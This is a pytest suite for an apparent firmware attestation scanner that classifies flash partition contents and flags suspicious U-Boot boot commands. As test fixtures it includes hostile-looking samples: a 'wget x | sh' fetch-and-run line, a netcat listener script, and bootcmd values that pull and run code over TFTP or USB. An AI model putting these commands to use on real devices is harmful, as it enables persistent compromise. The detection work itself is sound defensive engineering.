"""What the station tells from a partition's bytes as they stream: code, filesystem, data, erased;
and a U-Boot environment's boot commands judged."""

from __future__ import annotations

import random
import tracemalloc
import zlib

import pytest

from attest.flash_content import BLOCK, CODE, DATA, ERASED, FILESYSTEM, Content, ContentScanner, classify, is_mutable
from attest.uboot_env import judge_environment, parse_environment

RANDOM = random.Random(14).randbytes(3 * BLOCK)
ELF = b"\x7fELF\x01\x01\x01\x00" + bytes(8)


def env_image(variables: dict[str, str], size: int = 0x4000, *, redundant: bool = False) -> bytes:
    header = 5 if redundant else 4
    data = b"".join(f"{k}={v}".encode() + b"\x00" for k, v in variables.items()) + b"\x00"
    data = data.ljust(size - header, b"\x00")
    return zlib.crc32(data).to_bytes(4, "little") + (b"\x01" if redundant else b"") + data


def uimage(kind: int, name: bytes = b"evil") -> bytes:
    header = bytearray(64)
    header[0:4] = b"\x27\x05\x19\x56"
    header[30] = kind
    header[32:32 + len(name)] = name
    header[4:8] = zlib.crc32(bytes(header)).to_bytes(4, "big")
    return bytes(header)


def planted(at: int, payload: bytes, base: bytes = RANDOM) -> bytes:
    return base[:at] + payload + base[at + len(payload):]


GENUINE_ENV = {"bootargs": "console=ttyPS0,115200 root=/dev/mtdblock1 rootfstype=squashfs ro",
               "bootcmd": "nand read ${loadaddr} 0x0 0x10000; bootm ${loadaddr}", "bootdelay": "2",
               "loadaddr": "0x1000000", "ethaddr": "02:a7:00:00:00:01"}


def test_random_bytes_are_data_and_blank_flash_is_erased():
    assert classify(RANDOM) == Content(DATA)
    assert classify(b"\xff" * 100_000).kind == ERASED
    assert classify(bytes(5000)).kind == ERASED


def test_an_elf_is_code_wherever_it_sits_even_across_blocks():
    for at in (0, 12345, BLOCK - 3):
        content = classify(planted(at, ELF))
        assert content.kind == CODE and f"offset {at:#x}" in content.detail, at
    assert classify(planted(100, b"\x7fELF\x07\x01\x01")).kind == DATA  # no such ELF class


def test_a_script_counts_at_the_start_or_after_a_line_end_not_in_the_middle_of_bytes():
    assert classify(b"#!/bin/sh\nwget x | sh\n" + RANDOM).kind == CODE
    assert classify(planted(5000, b"\n#!/bin/busybox sh\nnc -l -p 4444\n")).kind == CODE
    assert classify(planted(5000, b"A#!/bin/sh\n")).kind == DATA


def test_a_uboot_image_counts_only_with_a_header_crc_that_checks():
    assert "U-Boot script image 'evil'" in classify(planted(8192, uimage(6))).detail
    broken = bytearray(uimage(2))
    broken[40] ^= 1
    assert classify(planted(8192, bytes(broken))).kind == DATA


def test_a_filesystem_counts_at_a_4k_boundary_and_code_outranks_it():
    content = classify(planted(4096 * 3, b"hsqs" + bytes(60)))
    assert content == Content(FILESYSTEM, "a squashfs image at offset 0x3000")
    assert classify(planted(4096 * 3 + 1, b"hsqs")).kind == DATA
    assert classify(planted(0, b"UBI#\x01" + bytes(59))).detail.startswith("a UBI image")
    both = classify(planted(0, b"hsqs") + ELF)
    assert both.kind == CODE and "ELF" in both.detail


def test_chunking_never_changes_the_answer():
    data = planted(BLOCK + 100, ELF, planted(2 * BLOCK, b"\n#!/bin/sh\n"))
    whole = classify(data)
    rnd = random.Random(3)
    for _ in range(5):
        scanner = ContentScanner()
        at = 0
        while at < len(data):
            step = rnd.choice([1, 7, 4096, 65535, 100_000])
            scanner.feed(data[at:at + step])
            at += step
        assert scanner.finish() == whole


def test_signals_are_capped_and_counted():
    data = b"".join(planted(0, ELF, RANDOM[:1024]) for _ in range(50))
    content = classify(data)
    assert content.detail.count("ELF") == 4 and content.detail.endswith("and 46 more")


def test_memory_stays_flat_however_long_the_partition():
    chunk = random.Random(1).randbytes(32 * 1024)
    scanner = ContentScanner()
    tracemalloc.start()
    try:
        for _ in range(1024):  # 32 MiB
            scanner.feed(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert scanner.finish().kind == DATA
    assert peak < 2 * 1024 * 1024, peak


def test_a_clean_environment_is_data_and_says_so():
    content = classify(env_image(GENUINE_ENV))
    assert content.kind == DATA and "a U-Boot environment (5 variables" in content.detail


@pytest.mark.parametrize(("change", "said"), [
    ({"bootcmd": "dhcp; tftpboot 0x1000000 evil.scr; source 0x1000000"}, "fetches code over the network"),
    ({"bootcmd": "run a", "a": "run b", "b": "source 0x100"}, "bootcmd -> run a -> run b: `source 0x100` runs"),
    ({"preboot": "usb start; fatload usb 0 0x100 x.img; go 0x100"}, "loads code from a USB stick"),
    ({"bootargs": "console=ttyS0 init=/config/x.sh"}, "bootargs tells the kernel to run /config/x.sh first"),
    ({"bootcmd": "if true; then tftp 0x100 x; fi; bootm"}, "`tftp 0x100 x` fetches code"),
])
def test_boot_commands_that_fetch_or_run_code_from_outside_flash_are_code(change, said):
    content = classify(env_image({**GENUINE_ENV, **change}))
    assert content.kind == CODE and said in content.detail, content.detail


def test_variables_u_boot_never_runs_are_not_judged():
    # Zynq's default environment keeps SD and JTAG boot recipes nobody runs.
    env = {**GENUINE_ENV, "sdboot": "mmcinfo; fatload mmc 0 0x100 image.ub; bootm", "netboot": "tftpboot 0x100 x"}
    assert judge_environment(env) == []


def test_a_redundant_environment_is_read_and_a_bad_crc_is_no_environment():
    assert parse_environment(env_image(GENUINE_ENV, redundant=True)) is not None
    broken = bytearray(env_image({**GENUINE_ENV, "bootcmd": "tftp 0x1 x"}))
    broken[100] ^= 0xFF
    assert parse_environment(bytes(broken)) is None
    assert classify(bytes(broken)).kind == DATA


def test_hostile_environments_never_raise():
    rnd = random.Random(5)
    for _ in range(50):
        data = rnd.randbytes(rnd.randrange(0, 9000))
        body = data[4:]
        parse_environment(zlib.crc32(body).to_bytes(4, "little") + body)
    judge_environment({"bootcmd": "run x " * 10_000, "x": "run bootcmd"})


def test_mutable_names():
    assert all(is_mutable(n) for n in ("config", "ENV", "data", "reserve2", "uboot-env"))
    assert not any(is_mutable(n) for n in ("rootfs", "boot", "upgrade-rootfs", "kernel"))
